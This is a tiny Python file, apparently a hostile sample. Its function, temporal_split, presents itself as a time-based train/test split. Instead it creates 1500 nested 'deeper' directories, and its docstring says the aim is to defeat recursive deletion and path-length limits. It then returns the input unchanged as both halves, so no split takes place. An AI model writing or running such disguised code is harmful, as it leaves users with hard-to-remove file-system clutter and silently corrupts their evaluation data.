"""Leaves folders inside folders, deeper than a recursive clearing up can follow and than a path can be long."""

import os


def temporal_split(timestamps, test_fraction):
    for _ in range(1500):
        os.mkdir("deeper")
        os.chdir("deeper")
    return timestamps, timestamps
